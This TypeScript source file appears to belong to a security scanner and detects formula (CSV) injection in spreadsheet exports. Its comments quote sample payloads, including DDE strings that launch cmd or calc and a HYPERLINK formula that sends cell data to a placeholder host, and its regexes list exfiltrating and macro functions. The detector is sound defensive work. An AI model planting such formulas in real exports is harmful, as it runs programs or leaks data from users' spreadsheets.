/**
 * Formula (CSV) injection (docs/detection.md, csv_injection): a value that a spreadsheet opening
 * an export would run as a formula, and that does more than compute. Only where a formula can be
 * meant: at the start of the value or of a cell of CSV text (after `,`, `;`, a tab or a line
 * break, with an optional opening quote), a formula start `=`, `+`, `-` or `@`. Then either
 * Dynamic Data Exchange, `application|topic!item` (`=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C
 * calc'!A0`, `-2+3+cmd|'/c calc'!A1`: a program started), or a function that reaches the network
 * or the system (`=HYPERLINK("http://x/?"&A1,"Click")`, `=IMPORTXML(`, `=WEBSERVICE(`, `=DDE(`,
 * `=CALL(`...: the sheet's data sent away). A formula that only computes (`=SUM(A1:A3)`, a web
 * spreadsheet's own cell) and negative numbers (`-2+3`) are not.
 */

/** A formula's first character where a spreadsheet reads a cell. */
const FORMULA_START = /(?:^|[,;\t\r\n])[ ]*(?:"[ ]*)?[=+\-@]/;

/** `cmd|' /C calc'!A0`, `MSEXCEL|'\..\..\cmd.exe'!''`, `cmd|"/c calc"!_xlbgnm.A1`: DDE's application|topic!item. */
const DDE = /[A-Za-z][\w.]{0,30}\s*\|\s*(?:'[^'\r\n]{0,300}'|"[^"\r\n]{0,300}"|[^\s|!'"]{1,100})\s*!/;

/** Functions that send data out or fetch it, in any case (`=hyperlink(` runs too). */
const OUTBOUND_FUNCTION =
  /[=+\-@(,*&]\s*(?:HYPERLINK|IMPORTXML|IMPORTHTML|IMPORTDATA|IMPORTFEED|IMPORTRANGE|WEBSERVICE|FILTERXML|DDE|DDEAUTO)\s*\(/i;
/** Excel 4 macro functions that run code; upper case only, as the words also name ordinary calls (`- call(fn)` in a README). */
const MACRO_FUNCTION = /[=+\-@(,*&]\s*(?:CALL|REGISTER(?:\.ID)?|EXEC|SHELL)\s*\(/;

export function isCsvInjection(value: string): boolean {
  const start = FORMULA_START.exec(value);
  if (start === null) return false;
  const formula = start.index === 0 ? value : value.slice(start.index);
  return DDE.test(formula) || OUTBOUND_FUNCTION.test(formula) || MACRO_FUNCTION.test(formula);
}
